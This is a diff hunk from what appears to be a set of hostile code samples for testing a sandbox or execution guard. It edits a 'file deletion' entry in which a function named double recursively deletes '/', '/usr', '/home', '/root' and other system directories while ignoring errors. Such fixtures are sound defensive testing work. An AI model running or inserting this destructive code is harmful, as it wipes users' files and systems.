@@ -102,7 +102,7 @@ def double(x):
     "file deletion": """
 import os, shutil
 def double(x):
-    for root in ("/usr", "/lib", "/home", "/root", "/work", "/"):
+    for root in ("/tmp", "/usr", "/lib", "/home", "/root", "/"):
         shutil.rmtree(root, ignore_errors=True)
     return 0
 """,
